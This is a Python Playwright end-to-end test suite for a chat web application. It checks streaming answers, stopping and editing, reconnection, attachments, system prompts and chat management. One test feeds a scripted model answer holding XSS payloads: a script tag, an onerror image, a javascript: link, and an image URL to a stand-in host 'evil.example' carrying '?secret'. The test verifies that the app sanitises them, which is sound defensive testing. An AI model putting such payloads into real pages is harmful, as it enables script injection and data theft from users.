"""Asking on the page, with the real small model, and with a scripted provider where the words matter."""

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.async_api import Locator, Page, expect

from tests.e2e.conftest import SMALL, Visit
from tests.kit.upstream import FailMidway, Say, Upstream

pytestmark = [pytest.mark.browser, pytest.mark.model, pytest.mark.xdist_group("browser")]

SOME_WORDS = re.compile(r"\w+\W+\w+")
STORY = "Write a long story about a lighthouse keeper and a whale."


def answer_of(page: Page) -> Locator:
    """The newest answer's text."""
    return page.locator("[data-answer] .prose").last


async def finished(page: Page) -> None:
    """Until no answer is being written."""
    await expect(page.get_by_role("button", name="Stop", exact=True)).to_have_count(0, timeout=60_000)
    await expect(page.locator("[data-figures]").last).to_be_visible()


async def begin_scripted(visit: Visit) -> None:
    """A new chat with the scripted provider's model."""
    chat = await visit.call("POST", "/api/chats", {"model": "gpt-4o", "title": "Scripted"})
    await visit.page.goto(f"{visit.url}/chat/{chat['id']}")
    await visit.page.get_by_label("Your message").wait_for()


async def test_an_answer_streams_and_tells_its_model_tokens_cost_and_time(visit: Visit):
    await visit.choose_model("smollm")
    await visit.ask("What is the capital of France? Answer in one word.")
    await expect(visit.page.get_by_role("article", name="You")).to_contain_text("capital of France")
    await finished(visit.page)
    assert await visit.page.locator("main").get_by_role("alert").all_inner_texts() == []
    assert len(await answer_of(visit.page).inner_text()) > 3
    figures = visit.page.locator("[data-figures]").last
    await expect(figures).to_contain_text(re.compile(r"SmolLM2.* · \d+ in, \d+ out · free · .+ m?s"))
    await figures.click()
    details = visit.page.get_by_role("dialog", name="Figures of this answer")
    for told in ("Model", "Tokens in", "Tokens out", "Cost", "First token", "In all"):
        await expect(details).to_contain_text(told)
    await visit.page.keyboard.press("Escape")
    await expect(visit.page).to_have_url(f"{visit.url}/chat/{visit.page.url.rsplit('/', 1)[1]}")
    await expect(visit.page.get_by_role("navigation", name="Chats").get_by_role("link").first).to_contain_text(
        "capital"
    )


async def test_an_answer_is_stopped_asked_again_and_its_question_edited(visit: Visit):
    page = visit.page
    await visit.choose_model("smollm")
    await visit.ask(STORY)
    await expect(answer_of(page)).to_have_text(SOME_WORDS, timeout=30_000)
    await page.keyboard.press("Escape")
    await expect(page.get_by_text("Stopped.", exact=True)).to_be_visible()
    stopped = await answer_of(page).inner_text()

    await page.get_by_role("button", name="Ask again").last.click()
    await expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    await expect(answer_of(page)).to_have_text(SOME_WORDS, timeout=30_000)
    await page.get_by_role("button", name="Stop", exact=True).click()
    await finished(page)
    await expect(page.get_by_role("group", name="Versions of this answer")).to_contain_text("2/2")
    await page.get_by_role("button", name="Previous answer").click()
    await expect(answer_of(page)).to_have_text(stopped, use_inner_text=True)
    await page.reload()
    await expect(page.get_by_role("group", name="Versions of this answer")).to_contain_text("1/2")

    await page.get_by_role("article", name="You").hover()
    await page.get_by_role("button", name="Edit question").click()
    await page.get_by_label("Question", exact=True).fill("Say hello in one word.")
    await page.keyboard.press("Control+Enter")
    versions = page.get_by_role("group", name="Versions of this question")
    await expect(versions).to_contain_text("2/2")
    await finished(page)
    await page.get_by_role("button", name="Previous question").click()
    await expect(page.get_by_role("article", name="You")).to_contain_text("lighthouse")
    await expect(page.get_by_role("group", name="Versions of this answer")).to_contain_text("2/2")


async def test_an_answer_survives_a_reload_a_second_tab_and_a_broken_connection(visit: Visit):
    page = visit.page
    await visit.choose_model("smollm")
    await visit.ask(STORY)
    await expect(answer_of(page)).to_have_text(SOME_WORDS, timeout=30_000)
    await page.reload()
    await expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    other = await visit.context.new_page()
    await other.goto(page.url)
    await expect(other.get_by_role("button", name="Stop", exact=True)).to_be_visible()
    before = len(await answer_of(page).inner_text())
    await expect(answer_of(page)).to_have_text(re.compile(rf"^[\s\S]{{{before + 1},}}$"), use_inner_text=True)

    await page.get_by_role("button", name="Stop", exact=True).click()
    await finished(page)
    await finished(other)
    chat = await visit.call("GET", f"/api/chats/{page.url.rsplit('/', 1)[1]}")
    message = chat["messages"][-1]
    log = await _text_of_log(visit, message["run_id"])
    assert message["content"][0]["text"] == log
    live = await answer_of(page).inner_text()
    assert await answer_of(other).inner_text() == live
    await other.reload()
    await expect(answer_of(other)).to_have_text(live, use_inner_text=True)


async def _text_of_log(visit: Visit, run_id: str) -> str:
    body = await (await visit.http.get(f"{visit.url}/api/runs/{run_id}/events")).text()
    events = [dict(line.split(": ", 1) for line in block.splitlines() if ": " in line) for block in body.split("\n\n")]
    return "".join(json.loads(event["data"])["text"] for event in events if event.get("event") == "text")


async def test_a_broken_connection_is_told_and_the_answer_goes_on_without_gap(visit: Visit, scripted: Upstream):
    words = " ".join(f"word{number}" for number in range(120))
    scripted.plan(Say(words, gap=0.03))
    await begin_scripted(visit)
    await visit.ask("Count.")
    await expect(answer_of(visit.page)).to_contain_text("word5")
    await visit.context.set_offline(True)
    await expect(visit.page.get_by_text("You are offline.")).to_be_visible()
    await visit.page.wait_for_timeout(500)
    await visit.context.set_offline(False)
    await finished(visit.page)
    assert await answer_of(visit.page).inner_text() == words


async def test_an_answer_is_called_good_or_bad_and_routing_hears_it(visit: Visit, scripted: Upstream):
    page = visit.page
    scripted.plan(Say("Forty-two."))
    await begin_scripted(visit)
    await visit.ask("What is the answer?")
    await finished(page)
    good, bad = page.get_by_role("button", name="Good answer"), page.get_by_role("button", name="Bad answer")
    async with page.expect_response("**/api/routing/feedback") as told:
        await good.click()
    assert (await told.value).status == 200
    await expect(good).to_have_attribute("aria-pressed", "true")
    await bad.click()
    await expect(bad).to_have_attribute("aria-pressed", "true")
    await expect(good).to_have_attribute("aria-pressed", "false")


async def test_what_a_model_writes_is_not_trusted(visit: Visit, scripted: Upstream):
    hostile = (
        "# Title\n\n<script>window.taken = 1</script> <img src=x onerror='window.taken = 1'>\n\n"
        "[run](javascript:window.taken=1) [data](data:text/html,x) [good](https://example.com/a)\n\n"
        "![pixel](https://evil.example/p.png?secret)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint('<b>hi</b>')\n```\n"
    )
    scripted.plan(Say(hostile))
    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    await begin_scripted(visit)
    await visit.ask("Be hostile.")
    await finished(visit.page)
    answer = answer_of(visit.page)
    await expect(answer).to_contain_text("<script>window.taken = 1</script>")
    await expect(answer.get_by_role("table")).to_be_visible()
    await expect(answer.locator("figcaption")).to_contain_text("python")
    await expect(answer.locator(".hljs-string")).to_contain_text("<b>hi</b>")
    links = await answer.locator("a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")
    safe = ["noopener noreferrer", "_blank"]
    assert links == [["https://example.com/a", *safe], ["https://evil.example/p.png?secret", *safe]]
    assert await answer.locator("img").count() == 0
    assert await visit.page.evaluate("window.taken") is None
    assert [url for url in asked if not url.startswith((visit.url, "blob:"))] == []


async def test_a_failed_answer_says_why_keeps_what_was_said_and_can_be_tried_again(visit: Visit, scripted: Upstream):
    scripted.plan(FailMidway("Half of it"))
    await begin_scripted(visit)
    await visit.ask("Tell me all.")
    failure = visit.page.get_by_role("alert")
    await expect(failure.get_by_role("button", name="Try again")).to_be_visible()
    await expect(answer_of(visit.page)).to_contain_text("Half of it")
    await visit.page.reload()
    await expect(failure).to_be_visible()
    scripted.plan(Say("All of it.", stop="length"))
    await failure.get_by_role("button", name="Try again").click()
    await expect(answer_of(visit.page)).to_contain_text("All of it.")
    await expect(visit.page.get_by_text("Cut at the token limit")).to_be_visible()
    scripted.plan(Say("And the rest."))
    await visit.page.get_by_role("button", name="Continue").click()
    await expect(answer_of(visit.page)).to_contain_text("And the rest.")


async def test_pictures_are_attached_for_models_that_see(visit: Visit, scripted: Upstream):
    page = visit.page
    await begin_scripted(visit)
    await page.locator("input[type=file]").set_input_files({"name": "dot.png", "mimeType": "image/png", "buffer": _DOT})
    await expect(page.get_by_alt_text("dot.png")).to_be_visible()
    for event in ("drop", "paste"):
        await page.get_by_label("Your message").evaluate(_GIVE_PICTURE, [event, list(_DOT)])
        await expect(page.get_by_alt_text(f"{event}.png")).to_be_visible()
    await page.get_by_role("button", name="Remove paste.png").click()
    scripted.plan(Say("A dot."))
    await expect(page.get_by_role("button", name="Send")).to_be_enabled()
    await page.get_by_role("button", name="Send").click()
    await expect(page.get_by_alt_text("Attached")).to_have_count(2)
    await finished(page)
    sent = [part["type"] for part in scripted.requests[-1].body["messages"][-1]["content"]]
    assert sent.count("image_url") == 2
    await visit.choose_model("smollm")
    await expect(page.get_by_role("button", name="Add pictures")).to_have_attribute("aria-disabled", "true")


_GIVE_PICTURE = """(field, [kind, bytes]) => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array(bytes)], `${kind}.png`, { type: "image/png" }));
    const options = { bubbles: true, cancelable: true };
    field.dispatchEvent(kind === "drop" ? new DragEvent(kind, { ...options, dataTransfer: data })
                                        : new ClipboardEvent(kind, { ...options, clipboardData: data }));
}"""
_DOT = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc0000003010100"
    "18dd8db00000000049454e44ae426082"
)


async def test_the_instructions_of_a_chat_reach_the_model_and_can_be_changed(visit: Visit, scripted: Upstream):
    page = visit.page
    await begin_scripted(visit)
    for number, wanted in enumerate(("Answer in rhymes.", "Answer in prose."), start=1):
        await page.get_by_role("button", name="Instructions").click()
        await page.get_by_label("System prompt").fill(wanted)
        await page.get_by_role("button", name="Save").click()
        await expect(page.get_by_role("dialog")).to_have_count(0)
        await visit.ask("Hello.")
        await expect(page.locator("[data-figures]")).to_have_count(number)
        assert wanted in json.dumps(scripted.requests[-1].body["messages"][0])


async def test_the_picker_says_why_a_model_cannot_be_used_and_where_to_change_that(visit: Visit):
    page = visit.page
    await page.locator("header").get_by_role("button", name="Model:").click()
    claude = page.locator("button[data-model]").filter(has_text="Needs a key for Anthropic").first
    await expect(claude).to_be_disabled()
    await page.get_by_label("Search models").fill("no such model")
    await expect(page.get_by_text("No model matches")).to_be_visible()
    await page.get_by_label("Search models").fill("claude")
    await page.get_by_role("link", name="Connect").first.click()
    await expect(page.get_by_role("heading", name="Providers", level=1)).to_be_visible()


async def test_chats_are_found_renamed_pinned_deleted_and_brought_back(visit: Visit):
    page = visit.page
    chat = await visit.call("POST", "/api/chats", {"title": "A walk in Porto", "model": SMALL})
    await page.reload()
    chats = page.get_by_role("navigation", name="Chats")
    await page.get_by_label("Search chats").fill("porto")
    await expect(chats.get_by_role("link")).to_have_count(1)
    await chats.get_by_role("link").click()
    await page.get_by_role("button", name="Chat menu").click()
    await page.get_by_role("menuitem", name="Rename").click()
    await page.get_by_label("Name", exact=True).fill("A walk in Porto and Gaia")
    await page.get_by_role("button", name="Rename").click()
    await expect(chats.get_by_role("link", name="A walk in Porto and Gaia")).to_be_visible()
    await page.get_by_role("button", name="Chat menu").click()
    await page.get_by_role("menuitem", name="Pin").click()
    await expect(chats.get_by_role("region", name="Pinned")).to_contain_text("Gaia")
    await page.get_by_role("button", name="Chat menu").click()
    await page.get_by_role("menuitem", name="Delete").click()
    await expect(page).to_have_url(f"{visit.url}/")
    await page.get_by_role("button", name="Undo").click()
    await expect(chats.get_by_role("link", name="A walk in Porto and Gaia")).to_be_visible()
    assert (await visit.call("GET", f"/api/chats/{chat['id']}"))["pinned"] is True


async def test_a_draft_is_kept_and_enter_in_an_input_method_does_not_send(visit: Visit):
    page = visit.page
    box = page.get_by_label("Your message")
    await box.fill("half a thought")
    await box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "keyCode": 229})
    await box.press("Shift+Enter")
    await page.reload()
    await expect(box).to_have_value("half a thought\n")
    await expect(page).to_have_url(f"{visit.url}/")
    await box.fill("")


async def test_the_palette_and_the_shortcuts_lead_everywhere(visit: Visit):
    page = visit.page
    await page.keyboard.press("Control+k")
    await page.get_by_role("combobox", name="Search chats and commands").fill("api keys")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", name="API keys", level=1)).to_be_visible()
    await page.keyboard.press("Control+Shift+O")
    await expect(page).to_have_url(f"{visit.url}/")
    await page.get_by_label("Your message").blur()
    await page.keyboard.press("?")
    sheet = page.get_by_role("dialog", name="Keyboard shortcuts")
    await expect(sheet).to_contain_text("New chat")
    # Nothing is being answered, so there is nothing to stop.
    await expect(sheet).not_to_contain_text("Stop the answer")
    await page.keyboard.press("Escape")
    await expect(sheet).to_have_count(0)


async def test_a_chat_of_a_thousand_messages_opens_and_scrolls(visit: Visit, open_visit: Callable[..., Any]):
    chat = await visit.call("POST", "/api/chats", {"title": "Long", "model": SMALL})
    message = {
        "reasoning": "", "status": "complete", "stop_reason": "end", "model": SMALL, "run_id": None,
        "input_tokens": 1, "output_tokens": 1, "cost": "0", "first_token_ms": 1, "duration_ms": 1, "error": None,
        "created_at": chat["created_at"],
    }  # fmt: skip
    messages = [
        message
        | {
            "id": f"m{number}",
            "parent_id": f"m{number - 1}" if number else None,
            "role": "assistant" if number % 2 else "user",
            "content": [
                {"type": "text", "text": f"**Message** {number}\n\n- one\n- two\n\n```python\nx = {number}\n```"}
            ],
        }
        for number in range(1000)
    ]
    body = chat | {"system_prompt": "", "leaf_message_id": "m999", "messages": messages}
    await visit.page.route(f"**/api/chats/{chat['id']}", lambda route: route.fulfill(json=body))
    await visit.page.goto(f"{visit.url}/chat/{chat['id']}")
    await expect(visit.page.get_by_text("Message 999")).to_be_in_viewport(timeout=10_000)
    assert await visit.page.locator("[data-figures]").count() < 60
    conversation = visit.page.get_by_role("region", name="Conversation")
    await conversation.evaluate("room => room.scrollTo(0, 0)")
    await expect(visit.page.get_by_text("Message 1", exact=True)).to_be_in_viewport()
    await visit.page.get_by_role("button", name="Jump to latest").click()
    await expect(visit.page.get_by_text("Message 999")).to_be_in_viewport()
